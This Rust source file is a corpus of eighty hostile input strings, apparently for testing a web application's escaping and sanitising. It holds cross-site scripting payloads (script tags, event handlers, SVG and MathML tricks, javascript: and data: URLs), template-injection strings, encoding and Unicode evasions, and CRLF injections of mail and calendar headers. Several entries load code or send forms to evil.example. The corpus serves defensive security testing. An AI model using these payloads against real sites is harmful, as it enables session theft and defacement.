//! Eighty texts of people who mean harm. Whatever they reach, each calls `__xss` or leads to
//! `evil.example`; a browser that is watched tells both. Most fit into a name, so that short
//! fields get the whole of them.

/// A text and what it tries.
#[derive(Clone, Copy, Debug)]
pub struct Text {
    /// What it tries, for the report.
    pub tries: &'static str,
    /// The text itself.
    pub text: &'static str,
}

const fn text(tries: &'static str, text: &'static str) -> Text {
    Text { tries, text }
}

/// All of them.
pub const TEXTS: [Text; 80] = [
    text("a script", "<script>__xss(1)</script>"),
    text("a script out of a double-quoted attribute", "\"><script>__xss(2)</script>"),
    text("a script out of a single-quoted attribute", "'><script>__xss(3)</script>"),
    text("a script out of the title", "</title><script>__xss(4)</script>"),
    text("a script out of a text area", "</textarea><script>__xss(5)</script>"),
    text("a script out of a style block", "</style><script>__xss(6)</script>"),
    text("a script out of a comment", "--><script>__xss(7)</script><!--"),
    text("a script that a filter puts together", "<scr<script>ipt>__xss(8)</scr</script>ipt>"),
    text("a script from elsewhere", "<SCRIPT SRC=//evil.example/9.js></SCRIPT>"),
    text("a script with odd tags", "<script/x>__xss(10)</script\t>"),
    text("a script out of a CDATA section", "]]><script>__xss(11)</script>"),
    text("a script that nobody closes", "<script>__xss(12)//"),
    text("a broken picture", "<img src=x onerror=__xss(13)>"),
    text("a broken picture out of an attribute", "\"><img src=x onerror=__xss(14)>"),
    text("a quote that is left open", "<img src=\"x\" onerror=\"__xss(15)\" x=\""),
    text("a second body", "<body onload=__xss(16)>"),
    text("a field that takes the focus", "<input autofocus onfocus=__xss(17)>"),
    text("a handler in the field's own attribute", "\" autofocus onfocus=__xss(18) x=\""),
    text("the same with single quotes", "' autofocus onfocus=__xss(19) x='"),
    text("details that open themselves", "<details open ontoggle=__xss(20)>"),
    text("a broken film", "<video><source onerror=__xss(21)>"),
    text("a broken sound", "<audio src=x onerror=__xss(22)>"),
    text("a running text", "<marquee onstart=__xss(23)>"),
    text("a list that takes the focus", "<select autofocus onfocus=__xss(24)>"),
    text("back quotes", "<img src=`x`onerror=__xss(25)>"),
    text("slashes for spaces", "<img/src/onerror=__xss(26)>"),
    text("an animation that ends", "<p style=animation-name:x onanimationend=__xss(27)>"),
    text("a handler for the pointer", "\" onpointerover=__xss(28) \""),
    text("a drawing that loads", "<svg onload=__xss(29)>"),
    text("a script in a drawing", "<svg><script>__xss(30)</script></svg>"),
    text("an animated drawing", "<svg><animate onbegin=__xss(31) attributeName=x dur=1s>"),
    text("a link in a drawing", "<svg><a href=javascript:__xss(32)><text>x</text></a>"),
    text("a drawing from elsewhere", "<svg><use href=//evil.example/33.svg#x>"),
    text("a link in a formula", "<math><a xlink:href=javascript:__xss(34)>x</a></math>"),
    text("a drawing that sets a link", "<svg><set attributeName=href to=javascript:__xss(35)>"),
    text("a picture in a drawing", "<svg><image href=//evil.example/36.png>"),
    text("an address that is a script", "javascript:__xss(37)"),
    text("the same in mixed case", "JaVaScRiPt:__xss(38)"),
    text("the same with a tab in it", "java\tscript:__xss(39)"),
    text("an address that holds a page", "data:text/html,<script>__xss(40)</script>"),
    text("an address of an old script", "vbscript:__xss(41)"),
    text("a link to a script", "<a href=javascript:__xss(42)>x</a>"),
    text("a link that holds a page", "<a href=\"data:text/html,<script>__xss(43)</script>\">x"),
    text("an address without a scheme", "//evil.example/44"),
    text("an address with a user", "https://good.example@evil.example/45"),
    text("a link as markup languages write it", "[x](javascript:__xss(46))"),
    text("a frame with a page in it", "<iframe srcdoc=\"<script>__xss(47)</script>\">"),
    text("a frame that is a script", "<iframe src=javascript:__xss(48)>"),
    text("an object from elsewhere", "<object data=//evil.example/49>"),
    text("an embedded thing from elsewhere", "<embed src=//evil.example/50>"),
    text("another base for all addresses", "<base href=//evil.example/>"),
    text("a refresh that leads away", "<meta http-equiv=refresh content=0;url=//evil.example>"),
    text("a style sheet from elsewhere", "<link rel=stylesheet href=//evil.example/53.css>"),
    text("a form that sends elsewhere", "<form action=//evil.example><button>54</button></form>"),
    text("a button that sends to a script", "<button formaction=javascript:__xss(55)>x</button>"),
    text("a script in a template", "<template><script>__xss(56)</script></template>"),
    text("a tag that is read twice, without scripts", "<noscript><i id=\"</noscript><img src onerror=__xss(57)>"),
    text("a tag that is read twice, in a drawing", "<svg></p><style><a id=\"</style><img src onerror=__xss(58)>"),
    text("a tag that is read twice, in a formula", "<math><mtext><table><mglyph><style><img onerror=__xss(59)>"),
    text("a comment that ends early", "<!--><img src=x onerror=__xss(60)>-->"),
    text("a CDATA section outside of drawings", "<![CDATA[><img src=x onerror=__xss(61)>]]>"),
    text("a table that throws out its content", "<table><td><img src=x onerror=__xss(62)></table>"),
    text("a sum for the templates", "{{ 7 * 7 }}{{ site.brand }}{{ site.wordmark }}"),
    text("a tag of the templates", "{% include \"layout.html\" %}{% raw %}"),
    text("a sentence that claims to be safe", "{{ t(key=\"common-quoted\") | safe }}"),
    text("placeholders of the words", "{ $name } { -brand } { $other } {\"x\"}"),
    text("a comment and a component", "{# x #}{{<icon name=\"star\" />}}"),
    text("other template languages", "${__xss(68)} #{__xss(68)} <%= __xss(68) %>"),
    text("entities by name", "&lt;script&gt;__xss(69)&lt;/script&gt;"),
    text("entities by number", "&#60;img src=x onerror=__xss(70)&#62;"),
    text("entities without an end", "&#x3c&#x69mg src onerror&#61__xss(71)&gt"),
    text("a style with an address", "<x style=\"background:url(//evil.example/72)\">"),
    text("a style sheet of its own", "</style><style>*{background:url(//evil.example/73)}"),
    text("letters that turn around", "\u{202e}gpj.exe\u{2066}<img src onerror=__xss(74)>"),
    text("wide letters and a line separator", "\u{ff1c}script\u{ff1e}__xss(75)\u{2028}\u{ff1c}/script\u{ff1e}"),
    text("letters that nobody sees", "\u{feff}<\u{200b}script>__xss(76)\u{e000}img onerror=__xss(76)>"),
    text("letters that end texts", "a\u{0}<img src onerror=__xss(77)>\u{1b}[31m\u{8}"),
    text("a header more in a mail", "x\r\nBcc: evil@evil.example\r\n\r\n<script>__xss(78)"),
    text("an entry more in a calendar", "x\r\nEND:VEVENT\r\nATTENDEE:mailto:evil@evil.example"),
    text("a very long text", LONG),
];

/// Longer than any field; what is stored is its beginning.
const LONG: &str = concat!(
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
    "\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='\"><img src=x onerror=__xss(80)><b a='",
);

/// One of each kind, for every run of the suite.
pub const DOZEN: [usize; 12] = [1, 4, 17, 28, 36, 46, 57, 62, 65, 73, 77, 78];

#[test]
fn there_are_eighty_and_no_two_are_the_same() {
    let all: std::collections::BTreeSet<&str> = TEXTS.iter().map(|text| text.text).collect();
    assert_eq!(all.len(), 80);
    let tries: std::collections::BTreeSet<&str> = TEXTS.iter().map(|text| text.tries).collect();
    assert_eq!(tries.len(), 80);
    let short = TEXTS.iter().filter(|text| text.text.chars().count() <= 56).count();
    assert!(short >= 70, "only {short} fit into a name");
}
